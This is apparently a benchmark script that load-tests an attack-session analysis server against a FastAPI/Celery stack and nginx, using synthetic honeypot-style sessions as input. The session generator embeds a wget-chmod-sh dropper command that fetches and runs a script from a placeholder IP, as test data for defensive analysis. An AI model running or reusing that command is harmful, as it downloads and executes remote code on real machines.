#!/usr/bin/env python3
"""api.py COORD [--seconds S] [--rounds N] [--only PART,...]: this server beside the stack that users would otherwise run
(bench/peers/fastapi_stack: FastAPI, Celery, Redis with appendonly, PostgreSQL) and, for reads, beside nginx. Everything on
loopback, load by wrk with eight connections in a closed loop, A B A B in one run; what counts is the ratio.

parts: submit  submissions accepted durably, by sessions a request (workers off on both sides)
       read    reads of a finished result, nginx's static answer of the same size beside it
       busy    the same reads while two workers analyse
       flow    analyses from submission to result, four at a time; time to result one at a time
       idle    start to ready, memory idle and after load, 10,000 streams of events
"""
import argparse
import contextlib
import http.client
import json
import os
import random
import resource
import shutil
import signal
import socket
import statistics
import subprocess
import sys
import tempfile
import threading
import time

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(HERE))
sys.path.insert(0, os.path.join(ROOT, "tests", "support"))
import servers  # noqa: E402

PEER_KEY = "peer-key-of-the-benchmark"


def session(i, rng):
    return {"source_ip": f"{rng.randrange(11, 126)}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}",
            "timestamp": f"2025-07-{1 + i % 28:02d}T{rng.randrange(24):02d}:{rng.randrange(60):02d}:{rng.randrange(60):02d}Z",
            "payload": "cd /tmp; wget http://198.51.100.%d/bins.sh; chmod 777 bins.sh; sh bins.sh %d" % (rng.randrange(256), i),
            "target_port": rng.choice([22, 23, 2222, 80, 8080]), "protocol": "SSH", "username": "root",
            "password": "pw%d" % rng.randrange(1000)}


def body_of(n, depth, folder):
    rng = random.Random(n)
    path = os.path.join(folder, f"body-{n}-{depth}.json")
    with open(path, "w", encoding="utf-8") as f:
        json.dump({"attack_sessions": [session(i, rng) for i in range(n)], "analysis_depth": depth}, f)
    return path


def memory_mb(pids):
    total = 0
    for pid in pids:
        try:
            with open(f"/proc/{pid}/smaps_rollup", encoding="ascii") as f:
                total += next(int(line.split()[1]) for line in f if line.startswith("Pss:"))
        except (OSError, StopIteration):
            pass
    return total / 1024


def with_children(pid):
    found, queue = [], [pid]
    while queue:
        pid = queue.pop()
        found.append(pid)
        try:
            for task in os.listdir(f"/proc/{pid}/task"):
                with open(f"/proc/{pid}/task/{task}/children", encoding="ascii") as f:
                    queue += [int(word) for word in f.read().split()]
        except OSError:
            pass
    return found


class Server:
    """A server under measurement: processes, an address and a key."""

    def __init__(self, name):
        self.name, self.processes, self.port, self.key, self.ready_seconds = name, [], 0, "", 0.0

    def run(self, command, env=None, cwd=None):
        log = open(os.path.join(self.folder, f"log-{len(self.processes)}"), "ab")
        self.processes.append(subprocess.Popen(command, env={**os.environ, **(env or {})}, cwd=cwd, stdin=subprocess.DEVNULL,
                                               stdout=log, stderr=log, start_new_session=True))

    def wait(self, path="/health", deadline=60):
        begin = time.monotonic()
        while True:
            try:
                connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=5)
                connection.request("GET", path)
                if connection.getresponse().status == 200:
                    self.ready_seconds = time.monotonic() - begin
                    return
            except OSError:
                pass
            if time.monotonic() - begin > deadline:
                raise RuntimeError(f"{self.name} is not ready after {deadline} s; its logs: {self.folder}")
            time.sleep(0.005)

    def memory(self):
        return memory_mb({pid for process in self.processes for pid in with_children(process.pid)})

    def stop(self):
        for process in self.processes:
            try:
                os.killpg(process.pid, signal.SIGTERM)
            except OSError:
                pass
        for process in self.processes:
            try:
                process.wait(30)
            except subprocess.TimeoutExpired:
                os.killpg(process.pid, signal.SIGKILL)
                process.wait()
        self.processes = []


class Ours(Server):
    def __init__(self, coord, folder, workers, database="", redis="", name="coord, SQLite"):
        super().__init__(name)
        self.folder = tempfile.mkdtemp(dir=folder)
        self.port = servers.free_port()
        env = {"COORD_STATE_DIR": os.path.join(self.folder, "state"), "COORD_LISTEN": f"127.0.0.1:{self.port}",
               "COORD_WORKERS": str(workers), "COORD_QUEUE_MOST": "100000000", "COORD_RATE_PER_MINUTE": "0",
               "COORD_LOG_LEVEL": "warning"}
        os.makedirs(env["COORD_STATE_DIR"])
        if database:
            env["DATABASE_URL"] = database
            subprocess.run([coord, "migrate"], env={**os.environ, **env}, check=True, stdout=subprocess.DEVNULL)
        if redis:
            env["REDIS_URL"] = redis
        made = subprocess.run([coord, "keys", "create", "--scopes", "submit,read", "bench"], env={**os.environ, **env}, check=True,
                              capture_output=True, text=True).stdout
        self.key = next(word for word in made.split() if word.startswith("coord_"))
        self.run([coord, "serve"], env)
        self.wait()


class Peer(Server):
    def __init__(self, folder, database, redis, workers):
        super().__init__("FastAPI + Celery + PostgreSQL")
        self.folder = tempfile.mkdtemp(dir=folder)
        self.port, self.key = servers.free_port(), PEER_KEY
        stack = os.path.join(ROOT, "bench", "peers", "fastapi_stack")
        env = {"DATABASE_URL": database, "REDIS_URL": redis, "PEER_KEY": PEER_KEY, "PYTHONDONTWRITEBYTECODE": "1"}
        subprocess.run(["psql", "-q", "-d", database, "-f", os.path.join(stack, "schema.sql")], check=True)
        # what an earlier part submitted and nobody worked off
        subprocess.run(["redis-cli", "-u", redis, "flushdb"], check=True, capture_output=True)
        if workers:
            self.run(["/usr/bin/python3", "-m", "celery", "-A", "tasks", "worker", "--concurrency", str(workers), "--loglevel", "error",
                      "--without-gossip", "--without-mingle"], env, stack)
        self.run(["/usr/bin/python3", "-m", "uvicorn", "--workers", "2", "--loop", "uvloop", "--http", "httptools", "--host", "127.0.0.1",
                  "--port", str(self.port), "--log-level", "error", "--no-access-log", "app:app"], env, stack)
        self.wait()


class Static(Server):
    """nginx with one file, kept open: the least that a read can cost."""

    def __init__(self, folder, body):
        super().__init__("nginx, static answer")
        self.folder, self.port = tempfile.mkdtemp(dir=folder), servers.free_port()
        os.chmod(self.folder, 0o755)
        with open(os.path.join(self.folder, "answer.json"), "w", encoding="utf-8") as f:
            f.write(body)
        conf = os.path.join(self.folder, "nginx.conf")
        temporary = "".join(f"{kind}_temp_path {self.folder}/{kind};" for kind in ("client_body", "proxy", "fastcgi", "uwsgi", "scgi"))
        with open(conf, "w", encoding="utf-8") as f:
            f.write(f"""pid {self.folder}/pid; error_log {self.folder}/error.log; worker_processes 2; daemon off;
events {{ worker_connections 4096; }}
http {{ access_log off; {temporary} keepalive_requests 100000000; sendfile on; open_file_cache max=10; default_type application/json;
server {{ listen 127.0.0.1:{self.port}; root {self.folder}; location / {{ try_files /answer.json =404; }} }} }}""")
        self.run(["nginx", "-c", conf, "-p", self.folder])
        self.wait()


def wrk(server, path, seconds, connections=8, body=""):
    command = ["wrk", "-t", "2", "-c", str(connections), "-d", f"{seconds}s", "-s", os.path.join(HERE, "load.lua"), "--timeout", "30s",
               f"http://127.0.0.1:{server.port}{path}"]
    out = subprocess.run(command, env={**os.environ, "BODY": body, "KEY": server.key}, check=True, capture_output=True, text=True).stdout
    figures = json.loads(out.rsplit("FIGURES ", 1)[1])
    figures["rate"] = figures["requests"] / figures["seconds"]
    if figures["bad"] or figures["broken"]:
        print(f"   ! {server.name}: {figures['bad']} answers were no success, {figures['broken']} connections broke")
    return figures


def middle(rows, key):
    return statistics.median(row[key] for row in rows)


def turns(args, named, measure):
    """{name: [figures of each round]}, measured in turn."""
    runs = {server.name: [] for server in named}
    for _ in range(args.rounds):
        for server in named:
            runs[server.name].append(measure(server))
    return runs


def table(runs, against):
    base = middle(runs[against], "rate")
    for name, rows in runs.items():
        rates = [row["rate"] for row in rows]
        print(f"   {name:32} {statistics.median(rates):10.0f}/s [{min(rates):.0f} {max(rates):.0f}]  p50 {middle(rows, 'p50'):8.2f} ms  "
              f"p99 {middle(rows, 'p99'):8.2f} ms  p99.9 {middle(rows, 'p999'):8.2f} ms  {statistics.median(rates) / base if base else float('inf'):7.2f} x")


def call(server, method, path, body=None):
    connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=60)
    headers = {"Authorization": f"Bearer {server.key}"}
    if body is not None:
        headers["Content-Type"] = "application/json"
    connection.request(method, path, body, headers)
    answer = connection.getresponse()
    data = answer.read()
    connection.close()
    if answer.status != 200:
        raise RuntimeError(f"{server.name}: {method} {path}: {answer.status} {data[:200]!r}")
    return json.loads(data)


def finished(server, body, deadline=120):
    begin = time.monotonic()
    name = call(server, "POST", "/analyze/coordination", body)["analysis_id"]
    pause = 0.002
    while time.monotonic() - begin < deadline:
        if call(server, "GET", f"/analyze/{name}")["status"] in ("completed", "failed"):
            return name, time.monotonic() - begin
        time.sleep(pause)
        pause = min(0.05, pause * 1.2)
    raise RuntimeError(f"{server.name}: {name} is not finished after {deadline} s")


def read_bytes(path):
    with open(path, "rb") as f:
        return f.read()


class Bench:
    def __init__(self, args):
        self.args, self.folder = args, tempfile.mkdtemp(prefix="coord-bench-")
        os.chmod(self.folder, 0o755)
        self.postgres, self.redis = servers.Postgres(durable=True), servers.Redis(appendonly=True)
        self.postgres.__enter__()
        self.redis.__enter__()

    def close(self):
        self.redis.__exit__(None, None, None)
        self.postgres.__exit__(None, None, None)
        shutil.rmtree(self.folder, ignore_errors=True)

    def ours(self, workers):
        return Ours(self.args.coord, self.folder, workers)

    def ours_scaled(self, workers):
        return Ours(self.args.coord, self.folder, workers, self.postgres.database(), self.redis.url, "coord, PostgreSQL + Redis")

    def peer(self, workers):
        return Peer(self.folder, self.postgres.database(), self.redis.url.rsplit("/", 1)[0] + "/7", workers)

    def submit(self):
        named = [self.peer(0), self.ours(0), self.ours_scaled(0)]
        for n in (10, 100, 1000, 10000):
            print(f"\n-- submissions accepted durably, {n:,} sessions a request, 8 connections")
            body = body_of(n, "minimal", self.folder)
            table(turns(self.args, named, lambda s: wrk(s, "/analyze/coordination", self.args.seconds, body=body)), named[0].name)
        for server in named:
            print(f"   memory after it: {server.name:32} {server.memory():8.1f} MB (without database servers)")
            server.stop()

    def read(self, busy=False):
        ours, peer = self.ours(2), self.peer(2)
        body = read_bytes(body_of(100, "minimal", self.folder))
        paths = {s.name: "/analyze/" + finished(s, body)[0] for s in (ours, peer)}
        answer = json.dumps(call(ours, "GET", paths[ours.name]), separators=(",", ":"))
        static = Static(self.folder, answer)
        paths[static.name] = "/"
        heavy = read_bytes(body_of(2000, "standard", self.folder))

        def measure(server):
            if not busy:
                return wrk(server, paths[server.name], self.args.seconds)
            # one stack at a time is at work: its own, and ours beside nginx
            with self.two_at_work(ours if server is static else server, heavy):
                return wrk(server, paths[server.name], self.args.seconds)

        print(f"\n-- reads of a finished result ({len(answer):,} bytes), 8 connections" + (", while two workers analyse" if busy else ""))
        table(turns(self.args, [static, peer, ours], measure), static.name)
        for server in (ours, peer, static):
            server.stop()

    @contextlib.contextmanager
    def two_at_work(self, server, body):
        stop = threading.Event()

        def work():
            while not stop.is_set():
                finished(server, body)

        threads = [threading.Thread(target=work) for _ in range(2)]
        for thread in threads:
            thread.start()
        time.sleep(0.5)  # until both have begun
        yield
        stop.set()
        for thread in threads:
            thread.join()

    def flow(self):
        named = [self.peer(2), self.ours(2), self.ours_scaled(2)]
        body = read_bytes(body_of(100, "minimal", self.folder))
        print("\n-- from submission to result, 100 sessions at minimal, four at a time, polled")
        runs = turns(self.args, named, lambda s: self.four_at_a_time(s, body))
        base = middle(runs[named[0].name], "rate")
        for name, rows in runs.items():
            print(f"   {name:32} {middle(rows, 'rate'):10.1f} analyses/s  {middle(rows, 'rate') / base:7.2f} x")
        for n, depth in ((1000, "minimal"), (1000, "standard")):
            body = read_bytes(body_of(n, depth, self.folder))
            print(f"\n-- time to result, one at a time, {n:,} sessions at {depth} (the peer's analysis is trivial at any depth)")
            for server in named:
                times = [finished(server, body)[1] for _ in range(5 * self.args.rounds)]
                print(f"   {server.name:32} {statistics.median(times) * 1000:10.1f} ms")
        for server in named:
            server.stop()

    def four_at_a_time(self, server, body):
        done, end = [0] * 4, time.monotonic() + self.args.seconds

        def work(i):
            while time.monotonic() < end:
                finished(server, body)
                done[i] += 1
        begin = time.monotonic()
        threads = [threading.Thread(target=work, args=(i,)) for i in range(4)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        return {"rate": sum(done) / (time.monotonic() - begin)}

    def idle(self):
        print("\n-- start to ready, memory (PSS of all its processes, without database servers)")
        for make in (lambda: self.peer(2), lambda: self.ours(2), lambda: self.ours(0)):
            ready = []
            for _ in range(self.args.rounds):
                server = make()
                ready.append(server.ready_seconds)
                time.sleep(1)
                memory, count = server.memory(), len(server.processes)
                server.stop()
            print(f"   {server.name:32} ready after {statistics.median(ready) * 1000:7.1f} ms  {memory:8.1f} MB ({count} started)")
        self.streams(10000)

    def streams(self, n):
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, n + 4096), hard))
        server = self.ours(0)
        name = call(server, "POST", "/analyze/coordination", read_bytes(body_of(10, "minimal", self.folder)))["analysis_id"]
        before, held = server.memory(), []
        request = (f"GET /analyze/{name}/events HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {server.key}\r\n\r\n").encode()
        try:
            for i in range(n):
                s = socket.create_connection(("127.0.0.1", server.port), timeout=30)
                s.sendall(request)
                held.append(s)
            answered = 0
            for s in held:
                s.settimeout(30)
                answered += s.recv(4096).startswith(b"HTTP/1.1 200")
            print(f"   {len(held):,} streams of events, {answered:,} answered: {server.memory():.1f} MB (before: {before:.1f})")
        except OSError as error:
            print(f"   ! streams: {error} after {len(held):,} connections")
        for s in held:
            s.close()
        server.stop()


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("coord")
    parser.add_argument("--seconds", type=int, default=5)
    parser.add_argument("--rounds", type=int, default=3)
    parser.add_argument("--only", default="submit,read,busy,flow,idle")
    args = parser.parse_args()
    args.coord = os.path.abspath(args.coord)
    bench = Bench(args)
    try:
        for part in args.only.split(","):
            if part == "busy":
                bench.read(busy=True)
            else:
                getattr(bench, part)()
    finally:
        bench.close()


if __name__ == "__main__":
    main()
